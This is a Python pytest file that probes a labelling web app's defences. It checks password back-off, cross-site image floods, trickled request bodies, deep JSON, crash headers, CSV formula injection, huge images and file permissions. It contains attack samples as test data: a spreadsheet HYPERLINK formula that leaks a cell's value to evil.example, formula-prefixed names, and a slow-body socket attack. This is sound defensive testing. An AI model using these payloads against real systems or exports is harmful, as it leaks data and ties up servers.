"""The pages at their edges (issue 36's probe): parallel password guesses, GETs that
change nothing, slow bodies, hostile JSON, headers on a crash, formula cells in exports,
huge images, a read-only store, private store files. Real uvicorn over raw HTTP where the
case needs a socket; each attack is paired with the right request, which must work."""

from __future__ import annotations

import base64
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

import numpy as np
import pandas as pd
import pytest
from app_fixtures import drawing_rounds, page_client, page_state, tiny_session
from browser_fixtures import browser, browser_or_skip, serving
from starlette.routing import Route
from test_app_security import Recorder, _attacker_site, _call, _page_headers, _wait_for

from dsplaybook.app import security
from dsplaybook.app import serving as serving_module
from dsplaybook.app.http import MAX_DEPTH, MAX_DIGITS
from dsplaybook.app.security import HEADERS, BasicAuth
from dsplaybook.app.server import create_app
from dsplaybook.atomic import write_csv
from dsplaybook.labelling.agreement import agreement
from dsplaybook.labelling.disputes import people_labels_table
from dsplaybook.sessions.drawing import DrawingSession
from dsplaybook.store import LabelStore, StandingView

SECURITY_HEADERS = {name.decode() for name, _ in HEADERS}


def _auth(password: str) -> dict:
    return {"Authorization": "Basic " + base64.b64encode(f"u:{password}".encode()).decode()}


# -- 4. password back-off: counted before the wait, one answer per interval ---------------


def test_parallel_wrong_passwords_are_answered_one_per_capped_interval(tmp_path, monkeypatch):
    monkeypatch.setattr(security, "BACKOFF_MAX_S", 0.3)
    with serving(create_app(tiny_session(tmp_path), password="s3cret")) as url:
        answered: list[float] = []  # a burst from a fresh client: no first one for free

        def guess() -> None:
            status = _call(url, "GET", "/", headers=_auth("wrong"))[0]
            answered.append(time.monotonic())
            assert status == 401

        start = time.monotonic()
        threads = [threading.Thread(target=guess) for _ in range(12)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        gaps = np.diff(sorted(answered))
        assert len(answered) == 12
        assert gaps.min() >= 0.2, gaps  # queued: ~0.25 then 0.3 s apart, never together
        assert max(answered) - start >= 11 * 0.25
        right = _call(url, "GET", "/", headers=_auth("s3cret"))
        assert right[0] == 200  # it waits its turn, then clears the count
        start = time.monotonic()
        assert _call(url, "GET", "/", headers=_auth("s3cret"))[0] == 200
        assert time.monotonic() - start < 0.2


def test_the_back_off_never_overflows():
    auth = BasicAuth(None, "pw")
    assert auth.backoff(0) == 0 and auth.backoff(1) == security.BACKOFF_S
    for count in (1025, 10**6):  # 0.25 * 2 ** 1024 overflowed a float before
        assert auth.backoff(count) == security.BACKOFF_MAX_S


# -- 5. GET has no side effect ------------------------------------------------------------


def test_a_get_of_the_state_leases_nothing_and_forgotten_tabs_expire(tmp_path, monkeypatch):
    session = tiny_session(tmp_path)
    client = page_client(create_app(session))
    for k in range(150):  # what <img src=".../api/state?session=evil-N"> on any site sends
        assert client.get("/api/state", params={"session": f"evil-{k}"}).status_code == 200
    assert session._leases == {} and session._held == {}
    first, second = page_state(client, "a")["next"], page_state(client, "b")["next"]
    assert (first, second) == (session.queue[0], session.queue[1])  # two tabs, two images
    assert client.get("/api/state", params={"session": "c"}).json()["next"] == session.queue[2]
    from dsplaybook.sessions import labelling

    monkeypatch.setattr(labelling, "LEASE_S", -1.0)  # every lease is over at once
    for k in range(4 * len(session.queue) + 101):
        page_state(client, f"tab-{k}")
    assert len(session._held) < 4 * len(session.queue) + 101  # expired tabs were forgotten


@pytest.mark.browser
def test_a_cross_site_image_flood_changes_no_lease(tmp_path, file_server):
    browser_or_skip()
    session = tiny_session(tmp_path)
    app = Recorder(create_app(session))
    flood = "".join(f'<img src="{{target}}/api/state?session=evil-{k}">' for k in range(150))
    with serving(app) as url:
        evil = _attacker_site(
            file_server,
            "localhost",
            f"<!doctype html><body>{flood}</body>".format(target=url.rstrip("/")),
        )
        driver = browser(tmp_path / "profile")
        try:
            driver.get(evil)
            assert _wait_for(lambda: sum(p == "/api/state" for _, p, _ in app.seen) >= 150), (
                app.seen
            )
        finally:
            driver.quit()
        assert session._leases == {} and session._held == {}
        token = app.state.token
        tabs = []
        for tab in ("real-1", "real-2"):
            body = json.dumps({"session": tab}).encode()
            status, _, answer = _call(url, "POST", "/api/state", body, _page_headers(url, token))
            assert status == 200
            tabs.append(json.loads(answer)["next"])
        assert tabs == session.queue[:2]  # two real tabs, two different images


# -- 6. body deadline, bounded JSON, headers on every answer -------------------------------


def test_a_body_that_trickles_in_is_cut_off(tmp_path, monkeypatch):
    monkeypatch.setattr(serving_module, "BODY_TIMEOUT_S", 0.5)
    session = tiny_session(tmp_path)
    app = create_app(session)
    with serving(app) as url:
        parts = urlsplit(url)
        with socket.create_connection((parts.hostname, parts.port), timeout=5) as slow:
            head = (
                f"POST /api/label HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json"
                f"\r\n{security.TOKEN_HEADER}: {app.state.token}\r\nContent-Length: 200\r\n\r\n"
            )
            slow.sendall(head.encode() + b'{"session": ')
            start = time.perf_counter()
            try:
                while True:  # a byte a few times a second: the old server waited forever
                    slow.sendall(b" ")
                    time.sleep(0.2)
                    if time.perf_counter() - start > 4:
                        break
            except OSError:
                pass  # closed under us
            slow.settimeout(2)
            try:
                rest = slow.recv(1000)
            except OSError:
                rest = b""
            assert rest == b"" or b"400" in rest.split(b"\r\n")[0], rest
            assert time.perf_counter() - start < 4
        body = json.dumps({"session": "a", "image": session.queue[0], "label": 1}).encode()
        status, _, _ = _call(url, "POST", "/api/label", body, _page_headers(url, app.state.token))
        assert status == 200 and len(session.store.events()) == 1


@pytest.mark.parametrize(
    "path, body, field, why",
    [
        ("/api/label", '{"session": "a", "image": ' + "[" * 2000 + "]" * 2000 + "}",
         "image", "nested deeper"),
        ("/api/draw/guess", '{"strokes": ' + "[" * 60000 + "]" * 60000 + "}",
         "strokes", "nested deeper"),
        ("/api/draw/submit", '{"session": "a", "true_class": 1, "round": 0, "strokes": '
         '[[[1, ' + "9" * 400 + "], [5, 5]]]}", "strokes", "longer than"),
    ],
)  # fmt: skip
def test_deep_json_and_huge_numbers_are_400s_naming_the_field(tmp_path, path, body, field, why):
    session = tiny_session(tmp_path)
    rounds = drawing_rounds(tmp_path / "drawing", round_size=1000)
    client = page_client(create_app(session, drawing=DrawingSession("doodles", rounds, 21.0)))
    answer = client.post(path, content=body, headers={"Content-Type": "application/json"})
    assert answer.status_code == 400, answer.text
    error = answer.json()["error"]
    assert error.startswith(f"{field}:") and why in error, error
    assert set(answer.headers) >= SECURITY_HEADERS
    assert session.store.events() == [] and rounds.store.drawings().empty
    fine = {"strokes": [[[1, 1], [90, 90]]]}  # the right request still works
    assert client.post("/api/draw/guess", json=fine).status_code == 200
    assert MAX_DEPTH >= 3 and MAX_DIGITS >= 6  # strokes nest three deep, coordinates short


def test_a_crash_is_a_500_with_the_security_headers_and_a_logged_traceback(tmp_path, caplog):
    app = create_app(tiny_session(tmp_path))

    async def broken(request):
        raise RuntimeError("a bug")

    app.router.routes.append(Route("/broken", broken))
    client = page_client(app, raise_server_exceptions=False)
    answer = client.get("/broken")
    assert answer.status_code == 500 and set(answer.headers) >= SECURITY_HEADERS
    assert "a bug" not in answer.text  # the traceback goes to the log, not to the page
    assert "RuntimeError: a bug" in caplog.text
    assert client.get("/").status_code == 200


# -- 2. exports safe to open in a spreadsheet ---------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_formula_cells_in_every_export_are_neutralised(tmp_path):
    store = LabelStore(tmp_path / "annotations" / "x.sqlite")
    classes = ("+cmd", "-1", "@sum", "plain")
    files = ("=1+1.png", "\tx.png", "ok.png", "@f.png")
    for image, (session, name) in enumerate([("s1", FORMULA), ("s2", "-Bob"), ("s3", "Ann")]):
        store.name_session(session, name)
        store.label(image, image, session)
        store.label(image, (image + 1) % 4, "s2" if session != "s2" else "s1")
    table = people_labels_table(store, classes, files)
    view = StandingView()
    view.refresh(store)
    agreed = agreement(view.votes(), store.annotators(), classes)
    numbers = pd.DataFrame({"delta": [-1.5, 2.0], "note": ["-1.5", "fine"]})
    for name, frame in (("labels", table), ("agreement", agreed), ("numbers", numbers)):
        write_csv(frame, tmp_path / f"{name}.csv")
    cells = []
    for name in ("labels", "agreement", "numbers"):
        text = (tmp_path / f"{name}.csv").read_text()
        cells += [c for line in text.splitlines() for c in line.split(",")]
    live = [c for c in cells if c.strip('"').startswith(("=", "+", "@", "\t"))]
    assert live == [], live
    assert any(c.startswith(("'=", "\"'=")) for c in cells)  # the formula is kept, as text
    back = pd.read_csv(tmp_path / "numbers.csv")
    assert back["delta"].tolist() == [-1.5, 2.0]  # numbers stay numbers
    assert back["note"].tolist() == ["'-1.5", "fine"]  # text that looks like one is marked


# -- 7. image memory, a read-only store, private store files -------------------------------


def test_a_huge_rgba_image_is_read_in_bounded_memory(tmp_path):
    from PIL import Image

    path = tmp_path / "big.png"
    pixels = np.zeros((7000, 7000, 4), np.uint8)
    pixels[..., 3] = 255
    pixels[2000:5000, 2000:5000, :3] = 200
    Image.fromarray(pixels, "RGBA").save(path, compress_level=1)
    del pixels
    probe = (
        "from pathlib import Path\n"
        "from dsplaybook.data.images import to_bitmap\n"
        f"bitmap = to_bitmap(Path({str(path)!r}), 50_000_000, 20)\n"
        "status = Path('/proc/self/status').read_text().split('VmHWM:')[1].split()[0]\n"
        "print(int(bitmap.max()), int(status) // 1024)"
    )
    result = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, check=True
    )
    ink, peak_mb = map(int, result.stdout.split())  # VmHWM: this process's own peak (the
    # rusage maxrss of a child starts at its parent's: a test worker's, a gigabyte or more)
    assert ink > 150  # the square is there
    assert peak_mb < 700, peak_mb  # was 1,526 MB: the work after decoding is 224 px a side


@pytest.fixture
def read_only_folder():
    """Make a folder unwritable even for root (CI runs as root): the immutable flag."""
    frozen: list[Path] = []

    def freeze(folder: Path) -> None:
        if os.geteuid() != 0:
            folder.chmod(0o555)
        elif subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode:
            pytest.skip("this file system has no immutable flag (chattr +i) to test with")
        frozen.append(folder)

    yield freeze
    for folder in frozen:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(folder)], check=False)
        folder.chmod(0o755)


def test_reads_are_served_while_the_store_is_read_only(tmp_path, read_only_folder):
    session = tiny_session(tmp_path)
    client = page_client(create_app(session))
    first = page_state(client, "a")["next"]
    client.post("/api/label", json={"session": "a", "image": first, "label": 2})
    read_only_folder(session.store.path.parent)
    fresh = tiny_session(tmp_path)  # a restarted app over the read-only store
    reader = page_client(create_app(fresh))
    state = reader.get("/api/state", params={"session": "b"})
    assert state.status_code == 200 and state.json()["labelled"] == 1
    write = reader.post("/api/label", json={"session": "b", "image": first, "label": 3})
    assert write.status_code == 503 and str(fresh.store.path) in write.json()["error"]
    assert len(fresh.store.events()) == 1  # nothing half-written, nothing lost


def test_store_files_are_private_to_their_owner(tmp_path):
    store = LabelStore(tmp_path / "annotations" / "x.sqlite")
    old = os.umask(0o022)
    try:
        store.label(1, 1, "s")
    finally:
        os.umask(old)
    for path in store.path.parent.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_the_drawing_submit_answer_keeps_its_own_fields(tmp_path):
    """The answer's ``pending`` is this drawing's (a bool), the round's count is apart."""
    rounds = drawing_rounds(tmp_path, round_size=1000)
    client = page_client(create_app(None, drawing=DrawingSession("doodles", rounds, 21.0)))
    body = {"strokes": [[[1, 1], [90, 90]]], "true_class": 1, "session": "s", "round": 0}
    answer = client.post("/api/draw/submit", json=body).json()
    assert set(answer) == {"drawing", "round", "prediction", "fooled", "pending", "state"}
    assert isinstance(answer["pending"], bool) and isinstance(answer["state"]["pending"], int)
